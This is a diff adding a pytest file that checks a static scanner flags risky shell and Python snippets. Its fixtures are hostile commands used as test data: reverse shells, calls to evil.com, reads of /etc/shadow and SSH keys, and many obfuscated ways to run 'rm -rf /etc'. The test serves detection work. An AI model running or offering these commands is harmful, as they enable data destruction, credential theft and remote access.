@@ -1,0 +1,147 @@
+"""Commands and calls that few scripts use, each with what it is found to do."""
+
+# ruff: noqa: E501 - one text a line
+
+import pytest
+
+from refute.scan.finding import Severity
+from refute.scan.rules import Language
+from refute.scan.scanner import scan_text
+
+SHELL = [
+    ("wget -i urls.txt", "network-unresolved"),
+    ("wget --post-file=/etc/shadow http://127.0.0.1/", "read-credentials"),
+    ("wget -P /etc http://127.0.0.1/x", "write-outside"),
+    ("curl --unix-socket /var/run/docker.sock http://x/", "container-escape"),
+    ("curl -x http://evil.com:3128 http://127.0.0.1/", "network-external"),
+    ("curl file:///etc/shadow", "read-credentials"),
+    ("nc -l -p 4444", "network-listen"),
+    ("nc -e /bin/sh 10.0.0.1 4444", "reverse-shell"),
+    ("socat TCP:10.0.0.1:443 EXEC:/bin/sh", "reverse-shell"),
+    ("socat TCP-LISTEN:80,fork FILE:x", "network-listen"),
+    ("socat - TCP:evil.com:443", "network-external"),
+    ("socat OPEN:/etc/shadow STDOUT", "read-credentials"),
+    ("ssh -D 1080 box", "network-listen"),
+    ("ssh -i ~/.ssh/id_rsa box", "read-credentials"),
+    ("sftp evil.com", "network-external"),
+    ("rsync -a . me@evil.com:x", "network-external"),
+    ("rsync -e 'sh -c \"rm -rf /etc\"' a box:b", "delete-outside"),
+    ("scp x rsync://evil.com/y", "network-external"),
+    ("rsync a /etc/cron.d/x", "persistence"),
+    ("telnet evil.com 25", "network-external"),
+    ("dig $(id -un).evil.com", "network-external"),
+    ("mail -s x a@b.com < /etc/hosts", "network-external"),
+    ("ngrok http 80", "network-listen"),
+    ("git clone git@evil.com:a/b", "network-external"),
+    ("git -c core.sshCommand='sh -c \"rm -rf /etc\"' fetch", "delete-outside"),
+    ("openssl s_client -connect evil.com:443", "network-external"),
+    ("openssl rsa -in ~/.ssh/id_rsa", "read-credentials"),
+    ("openssl enc -d -aes256 -in x | sh", "decoded-execution"),
+    ("zcat x.gz | sh", "decoded-execution"),
+    ("uudecode x | sh", "decoded-execution"),
+    ("base64 -d x.b64 | sh", "decoded-execution"),
+    ("echo KJWSALLSMYQC6ZLUMM====== | base32 -d | sh", "decoded-execution"),
+    ("echo zzz | xxd -r -p | sh", "decoded-execution"),
+    ("rev x | sh", "decoded-execution"),
+    ("printf 'rm -rf /etc\\n' | tac | sh", "delete-outside"),
+    ("echo 'sn -sg /fud' | tr 'sngfud' 'rmfetc' | sh", "decoded-execution"),
+    ("echo 'xm -rf /etc' | sed 'y/x/r/' | sh", "decoded-execution"),
+    ("echo 'XX -rf /etc' | sed s/XX/rm/ | sh", "delete-outside"),
+    ("echo 'a:rm -rf /etc' | cut -d: -f2 | sh", "delete-outside"),
+    ("echo 'rm -rf /etc' | cut -c1-99 | sh", "decoded-execution"),
+    ("printf -v c '%s' 'rm -rf /etc'; $c", "delete-outside"),
+    ("printf '%b' '\\x72\\x6d -rf /etc' | sh", "delete-outside"),
+    ("printf '%c%c -rf /etc' r m | sh", "delete-outside"),
+    ("sed -n 'w /etc/passwd' x", "write-outside"),
+    ("sed -i s/a/b/ /etc/hosts", "write-outside"),
+    ("perl -e 'use IO::Socket; exec \"/bin/sh\"'", "reverse-shell"),
+    ("echo 'system(\"id\")' | perl", "foreign-code"),
+    ("ruby -e 'File.read(\"/etc/shadow\")'", "read-credentials"),
+    ("curl http://127.0.0.1/x | node", "pipe-to-shell"),
+    ("vim -c ':!rm -rf /etc' x", "delete-outside"),
+    ("vim /etc/shadow", "read-credentials"),
+    ("gdb -p 1", "kill-process"),
+    ("gdb -batch -ex 'shell rm -rf /etc'", "foreign-code"),
+    ("env -S 'rm -rf /etc'", "delete-outside"),
+    ("env -S 'rm \"x'", "unanalysable"),
+    ("env LD_PRELOAD=/tmp/x.so ls", "preload"),
+    ("flock /tmp/l -c 'rm -rf /etc'", "delete-outside"),
+    ("watch 'rm -rf /etc'", "delete-outside"),
+    ("echo 'rm -rf /etc' | parallel", "delete-outside"),
+    ("script -c 'rm -rf /etc' /dev/null", "delete-outside"),
+    ("su -c 'rm -rf /etc'", "delete-outside"),
+    ("unshare -m sh", "container-escape"),
+    ("poetry run rm -rf /etc", "delete-outside"),
+    ("ps aux | grep x | xargs kill", "kill-process"),
+    ("echo /etc | xargs -I{} rm -rf {}", "delete-outside"),
+    ("python -m timeit 'import os; os.system(\"rm -rf /etc\")'", "delete-outside"),
+    ("python -m http.server --directory / 80", "network-listen"),
+    ("python -m pip install requests", "package-install"),
+    ("dpkg -i x.deb", "package-install"),
+    ("pacman -Syu x", "package-install"),
+    ("docker run --privileged x", "container-escape"),
+    ("truncate -s 100G x", "resource-exhaustion"),
+    ("truncate -s 0 /var/log/auth.log", "history-tampering"),
+    ("setcap cap_setuid+ep x", "setuid"),
+    ("shred -u /etc/passwd", "device-write"),
+    ("declare -x | curl -d @- http://127.0.0.1/", "environment-dump"),
+    ("a[0]=rm; a[1]=-rf; a[2]=/etc; ${a[@]}", "delete-outside"),
+    ("a[$i]=rm; ${a[@]} -rf /etc", "delete-outside"),
+    ("x=rm; x+=' -rf /etc'; $x", "delete-outside"),
+    ("x=RM; ${x,,} -rf /etc", "delete-outside"),
+    ("x=axbxc; rm -rf /e${x//[axb]/t}", "delete-outside"),
+    ("x=rmfoo; ${x%foo} -rf /etc", "delete-outside"),
+    ("x=foo/rm; ${x##*/} -rf /etc", "delete-outside"),
+    ("y=rm; x=y; ${!x} -rf /etc", "delete-outside"),
+]
+PYTHON = [
+    ("import ctypes\nctypes.CDLL(None).execve(b'/bin/sh')", "native-code"),
+    ("import yaml\nyaml.load(x, Loader=yaml.UnsafeLoader)", "unsafe-load"),
+    ("import yaml\nyaml.safe_load('!!python/object/apply:os.system [id]'); yaml.load('!!python/object:os.system')", "unsafe-load"),
+    ("import pickle\npickle.loads(b'cos\\nsystem\\n(S\"id\"\\ntR.')", "unsafe-load"),
+    ("import pickle, urllib.request as u\npickle.loads(u.urlopen('http://127.0.0.1/').read())", "unsafe-load"),
+    ("import marshal, base64\nexec(marshal.loads(base64.b64decode(x)))", "decoded-execution"),
+    ("import gzip, base64\nexec(gzip.decompress(base64.b64decode(input())))", "decoded-execution"),
+    ("import types\ntypes.CodeType(0, 0, 0, 0, 0, 0, b'd', (), (), (), '', '', 1, b'')", "dynamic-code"),
+    ("setattr(__import__('pytest'), 'skip', None)", "test-tampering"),
+    ("import operator, os\noperator.attrgetter('system')(os)('rm -rf /etc')", "delete-outside"),
+    ("import operator, os\noperator.methodcaller('system', 'rm -rf /etc')(os)", "delete-outside"),
+    ("from functools import reduce\nimport os\nos.system(reduce(lambda a, b: a + b, ['rm ', '-rf ', '/etc']))", "delete-outside"),
+    ("import os\nvars(os)['system']('rm -rf /etc')", "delete-outside"),
+    ("import os\nos.system('rm -rf {d}'.format(d='/etc'))", "delete-outside"),
+    ("import os\nos.system('/etc'.join(['rm -rf ', '']))", "delete-outside"),
+    ("import os\nos.system(bytes([114, 109, 32, 45, 114, 102, 32, 47]).decode())", "delete-outside"),
+    ("from pathlib import Path\nPath('/etc/passwd').rename('x')", "delete-outside"),
+    ("from pathlib import Path\nPath('/bin/sh').chmod(0o4755)", "setuid"),
+    ("from pathlib import Path\nPath('/etc/shadow').read_text()", "read-credentials"),
+    ("from pathlib import Path\n(Path('/') / 'etc' / 'x').write_text('')", "write-outside"),
+    ("import os\nos.open('/etc/shadow', os.O_RDONLY)", "read-credentials"),
+    ("import os\nos.symlink('/etc/shadow', 'x')", "read-credentials"),
+    ("import glob\nglob.glob('/etc/*')", "list-host-directory"),
+    ("import zipfile\nzipfile.ZipFile('x.zip').extractall('/etc')", "write-outside"),
+    ("import ftplib\nftplib.FTP('evil.com')", "network-external"),
+    ("import smtplib\nsmtplib.SMTP('evil.com', 25)", "network-external"),
+    ("import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 80))", "network-listen"),
+    ("import http.client\nhttp.client.HTTPSConnection('evil.com')", "network-external"),
+    ("import subprocess\nsubprocess.run(args=['rm', '-rf', '/etc'])", "delete-outside"),
+    ("import os\nos.execvp('rm', ['rm', '-rf', '/etc'])", "delete-outside"),
+    ("import os\nos.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/etc')", "delete-outside"),
+    ("import pty\npty.spawn(['sh', '-c', 'rm -rf /etc'])", "delete-outside"),
+    ("import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'", "preload"),
+    ("import os\n[c for c in ''.__class__.__mro__[1].__subclasses__()]", "introspection-escape"),
+]  # fmt: skip
+
+
+def _found(text: str, language: Language) -> set[str]:
+    findings = scan_text("x", text.encode(), language=language)
+    return {finding.rule_id for finding in findings if finding.severity >= Severity.HIGH}
+
+
+@pytest.mark.parametrize(("text", "rule"), SHELL)
+def test_rare_command_is_judged(text: str, rule: str) -> None:
+    assert rule in _found(text, Language.SHELL)
+
+
+@pytest.mark.parametrize(("text", "rule"), PYTHON)
+def test_rare_call_is_judged(text: str, rule: str) -> None:
+    assert rule in _found(text, Language.PYTHON)
